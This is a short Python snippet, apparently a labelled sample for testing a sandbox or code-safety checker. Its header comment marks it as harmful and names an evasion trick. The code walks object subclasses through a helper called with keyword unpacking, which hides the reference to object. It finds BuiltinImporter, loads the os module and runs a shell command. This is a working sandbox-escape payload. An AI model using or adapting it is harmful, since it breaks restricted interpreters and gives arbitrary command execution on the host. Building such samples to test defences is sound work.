# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: walk(cls=Base) helper called through **{"cls": object}
class Base:
    pass


def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)


for c in walk(**{"cls": object}):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
